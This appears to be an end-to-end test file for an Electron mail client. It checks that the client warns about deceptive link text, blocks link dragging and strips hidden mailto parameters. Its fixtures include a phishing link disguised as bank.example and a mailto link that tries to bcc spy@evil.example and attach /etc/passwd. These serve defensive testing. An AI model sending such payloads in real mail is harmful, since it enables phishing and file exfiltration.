import { afterAll, beforeAll, expect, it } from 'vitest';
import { makeTemporaryFolder, removeFolder } from '../support/temporary-folder.ts';
import { waitFor } from '../support/wait-for.ts';
import type { RunningApp } from './support/launch-app.ts';
import { letter } from './support/letters.ts';
import { type Newsroom, sectionUser, startNewsroom } from './support/newsroom.ts';
import { openConversation } from './support/open-conversation.ts';

const userData = makeTemporaryFolder();
let newsroom: Newsroom;
let app: RunningApp;

const htmlLetter = (subject: string, html: string) =>
  letter({
    from: 'Mika Mori <mika@reader.example>',
    subject,
    text: html,
    messageId: `${subject}@reader.example`,
  }).replace('text/plain', 'text/html');

const evil = 'https://evil.example/login';

beforeAll(async () => {
  newsroom = await startNewsroom();
  newsroom.dovecot.deliver(
    sectionUser,
    htmlLetter(
      'Two-faced',
      `<p><a href="${evil}">https://bank.example</a> and <a href="${evil}">this</a></p>`,
    ),
  );
  newsroom.dovecot.deliver(
    sectionUser,
    htmlLetter(
      'Plain',
      `<p><a href="${evil}">this</a></p><p><a href="mailto:desk@reader.example?bcc=spy@evil.example&attach=/etc/passwd&subject=Bridge">write</a></p>`,
    ),
  );
  app = await newsroom.startApp(userData);
});

afterAll(async () => {
  await app.quit();
  await newsroom.stop();
  removeFolder(userData);
});

it('lets no link be dragged out of a mail, which would open it elsewhere unasked', async () => {
  const frame = await openLetter('Plain');
  const drag = await frame
    .locator('a')
    .first()
    .evaluate((element) => getComputedStyle(element).getPropertyValue('-webkit-user-drag'));
  expect(drag).toBe('none');
});

async function openLetter(subject: string) {
  await openConversation(app.page, subject);
  return app.page.frameLocator('[data-pane=reading] iframe');
}

it('warns of a claim that another link to the same address makes, in that mail only', async () => {
  const { page } = app;
  await (await openLetter('Two-faced')).getByText('this', { exact: true }).click();
  const dialog = page.getByRole('alertdialog');
  await dialog.getByText('evil.example', { exact: true }).waitFor();
  expect(await dialog.getByText('bank.example').count()).toBe(1);
  await dialog.getByRole('button', { name: 'Cancel' }).click();
  await dialog.waitFor({ state: 'detached' });

  await (await openLetter('Plain')).getByText('this', { exact: true }).click();
  await dialog.getByText('evil.example', { exact: true }).waitFor();
  expect(await dialog.getByText('bank.example').count()).toBe(0);
  await dialog.getByRole('button', { name: 'Cancel' }).click();
  await dialog.waitFor({ state: 'detached' });
});

it('hands the mail program the address and the subject that it showed, and nothing else', async () => {
  const { page, electron } = app;
  await electron.evaluate(({ shell }) => {
    const opened: string[] = [];
    Object.assign(globalThis, { opened });
    shell.openExternal = async (url) => {
      opened.push(url);
    };
  });
  await (await openLetter('Plain')).getByText('write', { exact: true }).click();
  const dialog = page.getByRole('alertdialog');
  await dialog.getByText('desk@reader.example', { exact: true }).waitFor();
  await dialog.getByText('Subject: Bridge').waitFor();
  await dialog.getByRole('button', { name: 'Open mail program' }).click();
  const opened = await waitFor('the mail program', async () => {
    const urls = await electron.evaluate(
      () => (globalThis as typeof globalThis & { opened: string[] }).opened,
    );
    return urls.length > 0 ? urls : null;
  });
  expect(opened).toEqual(['mailto:desk@reader.example?subject=Bridge']);
});
